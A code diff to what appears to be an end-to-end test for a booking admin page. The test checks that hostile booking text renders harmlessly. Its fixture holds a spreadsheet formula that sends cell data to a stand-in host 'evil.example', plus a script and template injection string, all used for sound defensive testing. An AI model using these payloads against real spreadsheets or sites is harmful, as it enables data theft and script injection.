@@ -17,7 +17,10 @@ const BOOKING = {
   flavourPreferences: '=HYPERLINK("https://evil.example?"&A1,"mint")',
   specialRequirements: '</dd></textarea><script>window.harmed=1</script>{{7*7}}${7*7}',
 };
-const CHAT = 'https://wa.me/447700900123';
+const CHAT = expect.stringMatching(
+  /^https:\/\/wa\.me\/447700900123\?text=Hello%20[-\w.%]*$/,
+) as unknown as string;
+const PAGE = expect.stringMatching(/^\/admin\/bookings\/[-0-9a-f]{36}$/) as unknown as string;
 const MAP = `https://www.google.com/maps/search/?api=1&query=${encodeURIComponent(BOOKING.location)}`;
 
 /** An address that a mail program would take for a subject and a text, were it not encoded. */
@@ -76,15 +79,13 @@ test('hostile text: a booking’s is harmless in the list, its details, in print
   await page.goto(`/admin?q=${encodeURIComponent(email)}`);
   const row = page.getByRole('row').filter({ hasText: PERSON.firstName });
   await typed(row, [PERSON.lastName, PERSON.phone, PERSON.instagram, email]);
-  expect(await hrefs(row)).toEqual([link, 'tel:+447700900123', CHAT, MAP]);
+  expect(await hrefs(row)).toEqual([PAGE, link, 'tel:+447700900123', CHAT, MAP]);
   await expectHarmless(page);
 
   await row.getByRole('button', { name: LIST.viewDetails }).click();
   const details = page.getByRole('dialog', { name: 'Booking Details' });
   await typed(details, [...Object.values(BOOKING), email]);
-  const inDetails = await hrefs(details);
-  expect(inDetails.shift()).toMatch(/^\/admin\/bookings\/[-0-9a-f]{36}$/);
-  expect(inDetails).toEqual([link, 'tel:+447700900123', CHAT, MAP]);
+  expect(await hrefs(details)).toEqual([PAGE, link, 'tel:+447700900123', CHAT, MAP]);
   await expectHarmless(page);
 
   await page.emulateMedia({ media: 'print' });
